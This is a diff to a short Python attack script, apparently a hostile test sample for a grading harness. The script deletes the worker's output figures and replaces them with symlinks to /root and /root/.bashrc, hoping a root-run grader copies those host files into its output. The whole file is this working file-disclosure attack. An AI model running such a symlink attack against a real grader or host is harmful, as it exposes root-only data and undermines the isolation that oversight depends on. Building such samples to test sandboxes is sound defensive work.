@@ -1,9 +1,10 @@
 """Attack: replace the worker's figures folder with a symlink to a root-only host folder, hoping the
 grader (root) copies it into the grading output; the exercise itself is missing."""
 import os
+OUT = os.path.join(os.environ.get("HOME", "."), "..", "out")  # the worker's out/ folder
 import shutil
 
-for target, link in (("/root", "../out/figures"), ("/root/.bashrc", "../out/embedding_trained.png")):
+for target, link in (("/root", OUT + "/figures"), ("/root/.bashrc", OUT + "/embedding_trained.png")):
     try:
         if os.path.isdir(link) and not os.path.islink(link):
             shutil.rmtree(link)
@@ -11,6 +12,6 @@ for target, link in (("/root", "../out/figures"), ("/root/.bashrc", "../out/embe
     except OSError:
         pass
 try:
-    os.makedirs("../out/elsewhere", exist_ok=True)
+    os.makedirs(OUT + "/elsewhere", exist_ok=True)
 except OSError:
     pass
